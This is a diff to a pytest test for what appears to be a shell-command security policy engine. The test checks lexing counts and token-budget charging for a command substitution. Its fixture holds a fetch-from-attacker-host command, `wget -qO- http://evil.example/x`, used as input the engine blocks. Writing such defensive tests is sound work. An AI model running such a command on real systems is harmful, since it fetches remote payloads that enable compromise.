@@ -146,7 +146,7 @@ def test_a_substitution_is_lexed_once_per_line_and_judged_as_before(
     engine: Engine, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """`$(wget ...)` is lexed for what it prints, the names it runs and its commands: once now.
-    Under a token budget (long lines) every lexing still pays, as before."""
+    Under a token budget (long lines) every reading still pays what lexing it cost, as before."""
     from engine.policy import shell
     from engine.policy.lexer import BUDGET, Budget
 
@@ -164,15 +164,24 @@ def test_a_substitution_is_lexed_once_per_line_and_judged_as_before(
     assert [c.name for c in commands].count("wget") >= 1
     assert engine.check(line).decision != "allow"
 
-    lexed.clear()
-    budget = Budget(10_000, 60.0)
-    token = BUDGET.set(budget)
-    try:
-        again = shell.parse(line, _evaluator(engine).policy.programs)
-    finally:
-        BUDGET.reset(token)
-    assert lexed.count("wget -qO- http://evil.example/x") > 1  # each lexing spent its tokens
-    assert [c.text for c in again] == [c.text for c in commands]
+    def budgeted() -> tuple[list[shell.Command], int]:
+        lexed.clear()
+        budget = Budget(10_000, 60.0)
+        token = BUDGET.set(budget)
+        try:
+            return shell.parse(line, _evaluator(engine).policy.programs), 10_000 - budget.tokens
+        finally:
+            BUDGET.reset(token)
+
+    # Under a budget it is lexed once too, and each reading of it is charged what lexing it cost:
+    # the budget spent is what lexing it each time spent (Analyzer.replay off).
+    again, spent = budgeted()
+    assert lexed.count("wget -qO- http://evil.example/x") == 1
+    monkeypatch.setattr(shell.Analyzer, "replay", False)
+    relexed, spent_relexing = budgeted()
+    assert lexed.count("wget -qO- http://evil.example/x") > 1
+    assert spent == spent_relexing
+    assert [c.text for c in again] == [c.text for c in relexed] == [c.text for c in commands]
 
 
 @given(st.text(alphabet=st.sampled_from(list("aP/y.thon3EXe\n-_é")), max_size=16))
